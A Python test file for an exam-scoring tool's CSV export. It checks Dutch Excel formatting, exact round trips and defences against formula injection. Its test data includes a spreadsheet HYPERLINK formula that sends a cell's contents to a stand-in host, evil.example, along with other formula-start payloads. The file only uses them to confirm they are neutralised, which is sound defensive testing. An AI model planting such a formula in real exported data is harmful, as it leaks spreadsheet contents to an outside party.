"""The scoresheet CSV: Excel NL format, exact round trip, no formula injection."""

from __future__ import annotations

import csv
import io

import pytest

from cspe_tui.domain.group import Candidate
from cspe_tui.exports.scoresheet import neutralise, scoresheet_bytes, scoresheet_rows, write_scoresheet

from .sample import ABSENT, EXPECTED_TOTALS, NAMES, SCORES


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_header_and_values(closed_state):
    rows = read_back(scoresheet_bytes(closed_state))
    codes = [c.code for c in closed_state.model.criteria]
    assert rows[0] == ["examennummer", "naam", "afwezig", *codes, "totaal B1", "totaal B2", "totaal B3", "totaal onderdeel B"]
    by_nr = {row[0]: row for row in rows[1:]}
    assert list(by_nr) == list(NAMES)
    for nr, expected in EXPECTED_TOTALS.items():
        row = by_nr[nr]
        assert row[1] == NAMES[nr]
        assert row[2] == "nee"
        assert row[-4:] == [str(expected["B1"]), str(expected["B2"]), str(expected["B3"]), str(expected["B"])]
    assert by_nr["240101"][3:11] == ["1", "3", "2", "4", "1", "3", "2", "4"]  # B1.2 settled at 3, B3.1 by aanvulling
    assert by_nr[ABSENT][2] == "ja"
    assert by_nr[ABSENT][3:] == [""] * (len(codes) + 4)


def test_round_trip_gives_the_same_values(closed_state):
    assert read_back(scoresheet_bytes(closed_state)) == scoresheet_rows(closed_state)


def test_uses_semicolons_and_crlf(closed_state):
    text = scoresheet_bytes(closed_state).decode("utf-8-sig")
    first, second = text.split("\r\n")[:2]
    assert first.count(";") == 2 + 8 + 3 + 1
    assert second.startswith("240101;Şükrü Yılmaz;nee;")


DANGEROUS = {
    "240101": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "240102": "+31612345678",
    "240103": "-2",
    "240105": "@SUM(A1:A9)",
}


def test_dangerous_cells_are_neutralised_and_round_trip(closed_state):
    extra = {"240106": "\tcmd", "240107": "\rcmd"}
    names = {**NAMES, **DANGEROUS, **extra}
    # model_construct: the text gate refuses such names at input; a hand-edited file could still hold them.
    state = closed_state.model_copy(
        update={"candidates": [Candidate.model_construct(examennummer=nr, naam=name) for nr, name in names.items()]}
    )
    rows = read_back(scoresheet_bytes(state))
    got = {row[0]: row[1] for row in rows[1:]}
    for nr, name in {**DANGEROUS, **extra}.items():
        assert got[nr] == "'" + name
    assert got[ABSENT] == NAMES[ABSENT]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_awkward_but_harmless_text_round_trips(closed_state):
    names = {"240101": 'Jan "de Bakker"; junior', "240102": "Zoë\nBakker", "240103": "O'Brien", "240105": "Ilse (=)"}
    state = closed_state.model_copy(
        update={"candidates": [Candidate.model_construct(examennummer=nr, naam=names.get(nr, n)) for nr, n in NAMES.items()]}
    )
    got = {row[0]: row[1] for row in read_back(scoresheet_bytes(state))[1:]}
    for nr, name in names.items():
        assert got[nr] == name


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t1", "\r1"])
def test_neutralise_prefixes_formula_starts(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["", "12", "Şükrü", "a=b", " =1"])
def test_neutralise_leaves_other_text(value):
    assert neutralise(value) == value


def test_totals_stay_empty_until_complete(open_state):
    cells = {nr: dict(row) for nr, row in open_state.cells.items()}
    del cells["240102"]["B1.3"]
    cells["240105"]["B2.2"] = cells["240105"]["B2.2"].model_copy(update={"tweede": 0})
    state = open_state.model_copy(update={"cells": cells})
    by_nr = {row[0]: row for row in read_back(scoresheet_bytes(state))[1:]}
    header = scoresheet_rows(state)[0]
    col = {name: i for i, name in enumerate(header)}
    assert by_nr["240102"][col["B1.3"]] == ""
    assert by_nr["240102"][col["totaal B1"]] == ""
    assert by_nr["240102"][col["totaal B2"]] == str(EXPECTED_TOTALS["240102"]["B2"])
    assert by_nr["240102"][col["totaal onderdeel B"]] == ""
    assert SCORES["240105"]["B2.2"][0] != 0
    assert by_nr["240105"][col["B2.2"]] == ""
    assert by_nr["240105"][col["totaal B2"]] == ""


def test_write_scoresheet(tmp_path, closed_state):
    path = write_scoresheet(closed_state, tmp_path / "scores.csv")
    assert path.read_bytes() == scoresheet_bytes(closed_state)
    assert [p.name for p in tmp_path.iterdir()] == ["scores.csv"]
